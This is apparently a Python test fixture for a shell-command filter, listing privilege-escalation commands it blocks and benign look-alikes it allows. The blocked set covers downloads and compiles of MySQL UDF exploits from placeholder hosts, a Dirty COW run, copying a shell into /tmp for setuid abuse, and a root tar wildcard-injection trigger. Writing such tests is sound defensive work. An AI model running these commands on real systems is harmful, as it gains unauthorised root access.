"""Privilege-escalation leftovers: known misses from exploits26's measure (helper privesc26b).

Every command here is a variant written for the test (other hosts, paths, names and spellings than the
measured lines); no held-out source was measured for these known misses.

- MySQL's user-defined-function escalation by its published files (tactics/privilege.py ``_UDF_EXPLOITS``):
  ``raptor_udf2.c`` and ``lib_mysqludf_sys.so`` downloaded from any host, compiled or built into a library,
  and a few local root exploits by their four-digit Exploit-DB numbers (``1518.c``, ``9545.c``): blocked
  (the copy into the plugin directory and ``select do_system(...)`` were already);
- Dirty COW's build run under the name ``cow`` (``./cow``): blocked, as ``./exp`` is; compiling ``cow.c``
  stays allowed (the kernel's mm selftests have one);
- a shell copied into a directory anyone writes (``cp /bin/bash /tmp/rootbash``): blocked, the setuid
  copy's first step (the ``chmod +s`` after it and the ``-p`` run already were);
- tar as root over a bare glob in a shared directory (``cd /var/tmp; sudo tar czf b.tgz *``): blocked, the
  wildcard injection's trigger (the planted ``--checkpoint-action=exec=`` files already were). ``sudo tar
  ... /tmp/*`` is no trigger (the glob gives ``/tmp/--checkpoint=1``, a path, not an option): allowed.

Decided and left as they were: relative account databases after ``cd /etc`` in the same line (``>> passwd``,
``pushd /etc``, ``cd / && cd etc``) were already held; the cgroup ``release_agent`` write and
``notify_on_release`` were held, the ``/cmd`` payload written is asked, and ``chmod +x /cmd`` alone stays
allowed (a root-level entrypoint's name, ``/start.sh``, is asked already; ``/cmd`` is no such name); a
root-shell C body written by a heredoc, ``echo`` or ``printf`` was held at the write, so the later compile
of a neutral name needs no rule; ``cat /etc/sudoers`` and ``locate password`` stay blocked.
"""

from __future__ import annotations

HELD = {
    "mysql udf exploit files": [
        "wget http://192.0.2.44:8000/raptor_udf2.c -O /tmp/raptor_udf2.c",
        "curl -s -o /dev/shm/lib_mysqludf_sys.so http://198.51.100.9/lib_mysqludf_sys.so",
        "curl -O http://203.0.113.5/tools/lib_mysqludf_sys_64.so",
        "gcc -g -c /tmp/raptor_udf2.c -fPIC -o /tmp/raptor_udf2.o",
        "gcc -shared -Wl,-soname,raptor_udf.so -o /tmp/raptor_udf.so /tmp/raptor_udf.o -lc",
        "wget http://192.0.2.44/1518.c",
        "gcc -fPIC -shared -o /tmp/udf.so 1518.c",
        "gcc 9545.c -o /tmp/sendpage",
    ],
    "dirty cow run as cow": [
        "./cow",
        "/tmp/cow",
        "gcc -pthread cow.c -o cow && ./cow",
    ],
    "shell copied into a shared directory": [
        "cp /bin/bash /tmp/rootbash",
        "cp /usr/bin/bash /dev/shm/bash",
        "cp -p /bin/sh /var/tmp/",
        "cp /bin/dash /tmp",
        "install -m 0755 /usr/bin/zsh /dev/shm/zsh",
    ],
    "root tar over a shared glob": [
        "cd /dev/shm && sudo tar -cf /opt/x.tar *",
        "cd /var/tmp; sudo tar czf /srv/b.tgz *.log",
        "cd /tmp/ && doas tar -cvf /opt/arch.tar ?*",
    ],
}

ALLOWED = [
    "wget https://downloads.mysql.com/archives/get/p/23/file/mysql-8.0.33.tar.gz",
    "gcc -fPIC -shared -o libudf_math.so udf_math.c",
    "gcc 1000.c -o 1000",
    "python3 cow.py",
    "gcc -pthread cow.c -o cow",
    "cowsay hello",
    "cp /bin/bash ./rootfs/bin/bash",
    "cp /etc/hosts /tmp/hosts.bak",
    "cp build/app /tmp/app",
    "install -m 755 build/tool /tmp/tool",
    "ln -s /bin/bash /tmp/bash",
    "tar -czf /tmp/backup.tgz /tmp/*",
    "sudo tar -czf /var/backups/tmp.tgz /tmp/*",
    "cd /tmp && tar -cf /tmp/mine.tar *",
    "cd /tmp && sudo tar -tvzf *.tar.gz",
    "sudo tar -czf /backup/home.tgz /home/dev/project",
    "sudo tar -czf /var/backups/app.tgz -C /srv app",
    "tar -cf archive.tar *",
    "chmod a+x ./bin/cmd",
]
